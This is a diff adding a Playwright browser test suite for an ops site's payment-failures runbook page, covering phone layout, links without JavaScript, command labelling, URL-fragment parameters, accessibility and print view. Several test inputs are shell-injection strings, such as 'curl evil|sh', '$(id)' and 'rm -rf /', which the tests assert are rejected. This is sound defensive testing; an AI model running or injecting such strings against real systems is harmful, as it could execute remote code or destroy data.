@@ -1,0 +1,171 @@
+import AxeBuilder from '@axe-core/playwright'
+import { type ChildProcess } from 'node:child_process'
+import { readFileSync } from 'node:fs'
+import { mkdtemp, rm } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { gzipSync } from 'node:zlib'
+import { chromium, type Browser, type Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest'
+import { CHROMIUM } from '../../scripts/fixtures/chromium.ts'
+import { runEvenkeel, startEvenkeel } from '../../scripts/fixtures/command-line.ts'
+import { COMPANY } from '../../scripts/fixtures/places.ts'
+
+/* Somebody was paged: the runbook's page in a real browser, on a phone and a laptop, with and without JavaScript. */
+
+const PATH = '/runbooks/sending/payment-failures/'
+
+describe.skipIf(!CHROMIUM)('The page of a runbook', () => {
+  let out: string
+  let origin: string
+  let server: ChildProcess
+  let browser: Browser
+
+  beforeAll(async () => {
+    out = await mkdtemp(join(tmpdir(), 'evenkeel-runbook-'))
+    const built = await runEvenkeel('build', '--content', COMPANY, '--out', out)
+    expect(built.code, built.stderr).toBe(0)
+    const served = await startEvenkeel(/Ops site\s+(http:\S+)\/\n/, 'serve', '--out', out, '--port', '0')
+    server = served.child
+    origin = served.said[1] ?? ''
+    browser = await chromium.launch({
+      ...(CHROMIUM ? { executablePath: CHROMIUM } : {}),
+      args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking'],
+    })
+  })
+  afterAll(async () => {
+    await browser?.close()
+    server?.kill()
+    await rm(out, { recursive: true, force: true })
+  })
+
+  async function opened(fragment = '', options: Parameters<Browser['newContext']>[0] = {}): Promise<Page> {
+    const context = await browser.newContext({ viewport: { width: 390, height: 844 }, ...options })
+    onTestFinished(() => context.close())
+    const page = await context.newPage()
+    await page.goto(`${origin}${PATH}${fragment}`)
+    return page
+  }
+  const command = (page: Page, words: string) => page.locator('.cmd', { hasText: words }).first()
+
+  test('says on the first screen of a phone what goes on, how far to trust it, and the first step.', async () => {
+    const page = await opened('', { javaScriptEnabled: false })
+    const tops: number[] = []
+    for (const one of ['Open for', 'Test overdue since', 'People can', 'Which kind, and why?'])
+      tops.push((await page.locator('main').getByText(one).first().boundingBox())?.y ?? NaN)
+    expect(tops).toEqual(tops.toSorted((a, b) => a - b))
+    expect(tops.at(-1)).toBeLessThan(844)
+    const texts = await page.locator('main').innerText()
+    expect(texts.indexOf('About this runbook')).toBeGreaterThan(texts.indexOf('Verification'))
+  })
+
+  test('is walked by its links without JavaScript: from the tree to the step, and to whom to call.', async () => {
+    const page = await opened('', { javaScriptEnabled: false })
+    await page.getByRole('link', { name: 'bank_timeout, or declined_by_bank above 60' }).click()
+    await page.getByRole('link', { name: 'One question back' }).first().waitFor()
+    await page.getByRole('link', { name: 'Mark a bank as disturbed' }).last().click()
+    expect(new URL(page.url()).hash).toBe('#mark-a-bank-as-disturbed')
+    await page.getByRole('navigation', { name: 'In reach' }).getByRole('link', { name: 'Call' }).click()
+    const call = page.getByRole('link', { name: '+31 6 0000 0302' }).first()
+    expect(await call.getAttribute('href')).toBe('tel:+31600000302')
+    expect(await call.isVisible()).toBe(true)
+    expect(await page.getByRole('button', { name: 'Copy' }).count()).toBe(0)
+  })
+
+  test('says which commands change production, and shows them whole.', async () => {
+    const page = await opened()
+    expect(await command(page, 'rollout restart').innerText()).toContain('Changes production')
+    expect(await command(page, 'topk(5').innerText()).toContain('Reads only')
+    expect(await command(page, 'settle --since 2h --dry-run').innerText()).toContain('Prints only')
+    const cut = await page
+      .locator('.cmd pre')
+      .evaluateAll((boxes) => boxes.filter((box) => box.scrollWidth > box.clientWidth).length)
+    expect(cut).toBe(0)
+  })
+
+  test('keeps what was typed in the fragment alone, on the way through the page and in a link.', async () => {
+    const page = await opened()
+    const asked: string[] = []
+    page.on('request', (request) => asked.push(request.url()))
+    await page.getByLabel('BANK_A').fill('ing')
+    await page.getByLabel('NAMESPACE').fill('pay-2')
+    expect(await command(page, 'ideal-disturbed').locator('code').innerText()).toBe(
+      'flagctl set ideal-disturbed ing,BANK_B',
+    )
+    expect(await command(page, 'rollout restart').locator('code').innerText()).toBe(
+      'kubectl -n pay-2 rollout restart deploy/payments',
+    )
+    await page.getByRole('link', { name: 'Step 2' }).first().click()
+    await expect.poll(() => new URL(page.url()).hash).toBe('#2-one-bank-or-all&BANK_A=ing&NAMESPACE=pay-2')
+    expect(asked.filter((url) => /ing,|pay-2/.test(url))).toEqual([])
+
+    const other = await opened(new URL(page.url()).hash)
+    expect(await other.getByLabel('BANK_A').inputValue()).toBe('ing')
+    expect(await other.getByText('Filled in from the address').first().isVisible()).toBe(true)
+    expect((await other.getByText('One bank or all?').first().boundingBox())?.y).toBeLessThan(400)
+  })
+
+  test.each([
+    '#BANK_A=ing;curl+evil|sh',
+    '#BANK_A=ing&NAMESPACE=$(id)',
+    '#BANK_A=--all',
+    '#BANK_A=%3Bid',
+    '#BANK_A=a&X=b',
+  ])('fills nothing in from %s.', async (fragment) => {
+    const page = await opened(fragment)
+    expect(await page.getByLabel('BANK_A').inputValue()).toBe('')
+    expect(await command(page, 'ideal-disturbed').locator('code').innerText()).toBe(
+      'flagctl set ideal-disturbed BANK_A,BANK_B',
+    )
+    expect(await command(page, 'rollout restart').locator('code').innerText()).toContain('-n payments')
+  })
+
+  test('takes nothing that a shell would read as more than text.', async () => {
+    const page = await opened()
+    const input = page.getByLabel('BANK_A')
+    await input.fill('ing; rm -rf /')
+    expect(await input.getAttribute('aria-invalid')).toBe('true')
+    expect(await command(page, 'ideal-disturbed').locator('code').innerText()).toContain('BANK_A,')
+  })
+
+  test('copies a command as it is to be typed, and says what is still to fill in.', async () => {
+    const page = await opened('', { permissions: ['clipboard-read', 'clipboard-write'] })
+    const box = command(page, 'ideal-disturbed')
+    await page.getByLabel('BANK_A').fill('ing')
+    await box.getByRole('button').click()
+    await expect.poll(() => box.getByRole('button').innerText()).toBe('Copied, BANK_B is to fill in')
+    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('flagctl set ideal-disturbed ing,BANK_B')
+  })
+
+  test.each([
+    [390, 'light'],
+    [390, 'dark'],
+    [1280, 'light'],
+    [1280, 'dark'],
+  ] as const)('axe finds nothing at %i px, %s, and nothing is cut.', async (width, colorScheme) => {
+    const page = await opened('#BANK_A=ing', { viewport: { width, height: 844 }, colorScheme })
+    for (const folded of await page.locator('main summary').all()) await folded.click()
+    const { violations } = await new AxeBuilder({ page }).analyze()
+    expect(violations.map(({ id, nodes }) => `${id} ${nodes[0]?.html}`)).toEqual([])
+    expect(await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)).toBe(0)
+  })
+
+  test('is printed with its links written out and its summary open, without buttons.', async () => {
+    const page = await opened()
+    await page.emulateMedia({ media: 'print' })
+    expect(await page.getByRole('button', { name: 'Copy' }).first().isVisible()).toBe(false)
+    expect(await page.locator('.dock').isVisible()).toBe(false)
+    expect(await page.getByText('More than 5 % of payments').isVisible()).toBe(true)
+    const after = await page
+      .locator('.calls a[href^="http"]')
+      .first()
+      .evaluate((link) => getComputedStyle(link, '::after').content)
+    expect(after).toContain('https://pager.godwit.example/sending')
+  })
+
+  test('is at most 25 kB on the way, and its script 5 kB.', () => {
+    const size = (path: string) => gzipSync(readFileSync(join(out, 'ops', path))).length
+    expect(size(`${PATH}index.html`)).toBeLessThanOrEqual(25_000)
+    expect(size('runbook.js')).toBeLessThanOrEqual(5000)
+  })
+})
